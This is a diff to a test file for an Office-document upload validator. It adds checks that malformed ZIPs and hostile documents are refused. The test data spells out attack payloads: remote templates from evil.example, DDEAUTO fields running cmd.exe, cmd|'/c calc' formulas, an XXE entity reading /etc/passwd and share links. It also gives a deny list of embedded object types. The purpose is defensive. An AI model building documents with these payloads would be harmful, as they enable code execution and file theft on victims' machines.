@@ -167,7 +167,21 @@ describe("pictures are drawn anew (security I8, I9)", () => {
   });
 });
 
-describe("documents are told by their directory and not unpacked (security I2, I3)", () => {
+/** Two entries of which the second is the contents of the first: each is what it says, and they share their bytes. */
+function zipInItself(): Buffer {
+  const [outer, inner] = ["[Content_Types].xml", "word/document.xml"];
+  const second = zip([inner]);
+  const whole = zip([outer], { contents: { [outer]: second.subarray(0, 30 + inner.length + 1) } });
+  const listed = Buffer.from(second.subarray(30 + inner.length + 1, -22));
+  listed.writeUInt32LE(30 + outer.length, 42);
+  const end = Buffer.from(whole.subarray(-22));
+  end.writeUInt16LE(2, 8);
+  end.writeUInt16LE(2, 10);
+  end.writeUInt32LE(end.readUInt32LE(12) + listed.length, 12);
+  return Buffer.concat([whole.subarray(0, -22), listed, end]);
+}
+
+describe("documents are told by their directory, and their contents have to agree with it (security I2, I3)", () => {
   const parts = ["[Content_Types].xml", "word/document.xml"];
   it.each([
     ["a zip of anything", zip(["a.txt"]), "fileType"],
@@ -180,8 +194,138 @@ describe("documents are told by their directory and not unpacked (security I2, I
     ["one name twice", zip([...parts, "word/document.xml"]), "fileBroken"],
     ["more entries than it has", zip(parts, { count: 40_000 }), "fileBroken"],
     ["another format behind it", zip(parts, { comment: script }), "fileBroken"],
+    ["an entry named otherwise in its own head", zip(parts, { head: { name: "word/document.bin" } }), "fileBroken"],
+    ["an entry of another size in its own head", zip(parts, { head: { size: 2 } }), "fileBroken"],
+    ["an entry of another sum", zip(parts, { head: { crc: 7 } }), "fileBroken"],
+    ["an entry inside another", zipInItself(), "fileBroken"],
+    ["entries that lie over one another", zip(parts, { overlapping: true }), "fileBroken"],
+    ["something hidden between its entries", zip(parts, { between: Buffer.alloc(100) }), "fileBroken"],
+    [
+      "more in it than it says",
+      zip(parts, { deflated: true, declared: 10, contents: { "word/document.xml": "x".repeat(1_000_000) } }),
+      "fileBroken",
+    ],
+    ["less in it than it says", zip(parts, { deflated: true, declared: 10 }), "fileBroken"],
+    ["one name in capitals too", zip([...parts, "word/DOCUMENT.xml"]), "fileBroken"],
     ["its end cut off", samples.docx.subarray(0, -4), "fileBroken"],
   ])("%s is refused", async (_, bytes, code) => expect(await judged(bytes)).toBe(code));
+
+  it.each([
+    "word/embeddings/oleObject1.bin",
+    "xl/externalLinks/externalLink1.xml",
+    "word/activeX/activeX1.xml",
+    "xl/macrosheets/sheet1.xml",
+    "xl/connections.xml",
+    "word/media/Счёт.LNK",
+    "word/media/page.html",
+    "word/media/tool.scr",
+  ])("a document with %s in it is refused", async (name) =>
+    expect(await judged(zip([...parts, name]))).toBe("fileType"),
+  );
+
+  const types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+  const relations = (inner: string) =>
+    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`;
+  const relation = (type: string, target: string, mode = 'TargetMode="External"') =>
+    relations(`<Relationship Id="rId1" Type="${types}/${type}" Target="${target}" ${mode}/>`);
+  const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, "utf16le");
+  const filler = "<w:t>слово</w:t>".repeat(20_000);
+
+  const fetching: [what: string, part: string, content: string | Buffer][] = [
+    [
+      "a template from elsewhere",
+      "word/_rels/settings.xml.rels",
+      relation("attachedTemplate", "https://evil.example/a.dotm"),
+    ],
+    [
+      "the same with its address in entities",
+      "word/_rels/settings.xml.rels",
+      relation("attachedTemplate", "https://evil.example/a", 'TargetMode="&#69;xternal"'),
+    ],
+    [
+      "the same in single quotes and with a prefix",
+      "word/_rels/settings.xml.rels",
+      `<r:Relationships><r:Relationship Target='a>b' Type='${types}/attachedTemplate' TargetMode='External'/></r:Relationships>`,
+    ],
+    [
+      "the same behind much else",
+      "word/_rels/settings.xml.rels",
+      `<x>${filler}</x>${relation("attachedTemplate", "https://evil.example/a").slice(38)}`,
+    ],
+    [
+      "the same in UTF-16",
+      "word/_rels/settings.xml.rels",
+      utf16(relation("attachedTemplate", "https://evil.example/a")),
+    ],
+    [
+      "the same in an encoding nobody writes",
+      "word/_rels/settings.xml.rels",
+      relation("styles", "a", "").replace("UTF-8", "utf-7"),
+    ],
+    ["a picture from elsewhere", "word/_rels/document.xml.rels", relation("image", "https://evil.example/1.png")],
+    [
+      "a link to a program on this machine",
+      "word/_rels/document.xml.rels",
+      relation("hyperlink", "file:///C:/Windows/system32/calc.exe"),
+    ],
+    ["a link to a share", "word/_rels/document.xml.rels", relation("hyperlink", "\\\\evil\\share\\a.lnk")],
+    ["an OLE object under another name", "word/_rels/document.xml.rels", relation("oleObject", "media/image1.png", "")],
+    ["a page of HTML", "word/_rels/document.xml.rels", relation("aFChunk", "media/image1.png", "")],
+    ["a field of DDE", "word/document.xml", "<w:r><w:instrText>DDEAUTO c:\\windows\\cmd.exe</w:instrText></w:r>"],
+    [
+      "a field of DDE in pieces",
+      "word/document.xml",
+      `<w:instrText xml:space="preserve"> DD</w:instrText>${filler}<w:instrText>E&#65;UTO cmd</w:instrText>`,
+    ],
+    ["a simple field of DDE", "word/document.xml", `<w:fldSimple w:dirty="true" w:instr=' DDE cmd "/c"'/>`],
+    ["a field spelt in numbers", "word/document.xml", "<w:instrText>QUOTE 68 68 69</w:instrText>"],
+    [
+      "a field that fetches a text",
+      "word/document.xml",
+      "<w:instrText> INCLUDETEXT https://evil.example </w:instrText>",
+    ],
+    ["a formula that calls a program", "xl/worksheets/sheet1.xml", `<c><f>cmd|'/c calc'!A0</f></c>`],
+    [
+      "the same behind much else and in entities",
+      "xl/worksheets/sheet1.xml",
+      `<s>${filler}</s><c><f t="x">cmd&#x7C;'/c calc'!A0</f></c>`,
+    ],
+    ["the same as a name", "xl/workbook.xml", `<definedName name="a">cmd|'/c calc'!A0</definedName>`],
+    ["the same beside a comment", "xl/worksheets/sheet1.xml", `<c><f>cmd<!-- -->|'/c calc'!A0</f></c>`],
+    ["the same as raw text", "xl/worksheets/sheet1.xml", `<c><f><![CDATA[cmd|'/c calc'!A0]]></f></c>`],
+    ["entities of its own", "word/document.xml", `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`],
+    [
+      "a type with macros",
+      "[Content_Types].xml",
+      `<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`,
+    ],
+    [
+      "a part under a picture's name",
+      "word/media/image1.png",
+      relation("attachedTemplate", "https://evil.example/a.dotm"),
+    ],
+  ];
+
+  it.each(fetching)("I4: %s is refused", async (_what, part, content) => {
+    for (const deflated of [false, true]) {
+      const names = [...new Set([...parts, ...(part.startsWith("xl/") ? ["xl/workbook.xml"] : []), part])];
+      expect(await judged(zip(names, { deflated, contents: { [part]: content } }))).toBe("fileType");
+    }
+  });
+
+  it("what office programs write by themselves is taken", async () => {
+    const contents = {
+      "[Content_Types].xml": `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types><Default Extension="xml" ContentType="application/xml"/></Types>`,
+      "word/document.xml": `\ufeff<?xml version="1.0" encoding="UTF-8"?><w:document>${filler}<w:instrText> PAGE </w:instrText><w:fldSimple w:instr=" HYPERLINK &quot;https://shop.test&quot; "/></w:document>`,
+      "word/_rels/document.xml.rels": relations(
+        `<Relationship Id="r1" Type="${types}/styles" Target="styles.xml"/><Relationship Id="r2" Type="${types}/hyperlink" Target="https://shop.test/?a=1&amp;b=2" TargetMode="External"/>`,
+      ),
+      "xl/worksheets/sheet1.xml": `<c r="A1"><f>IF(A2="a|b",SUM(B1:B9),0)</f><v>1</v></c>`,
+      "word/media/image1.png": Buffer.concat([samples.png, Buffer.from("<".repeat(100)), Buffer.alloc(200_000)]),
+    };
+    for (const deflated of [false, true])
+      expect(await judged(zip(Object.keys(contents), { deflated, contents }))).toBe("docx");
+  });
 
   it("a PDF without its end is broken", async () =>
     expect(await judged(Buffer.from("%PDF-1.4\n1 0 obj"))).toBe("fileBroken"));
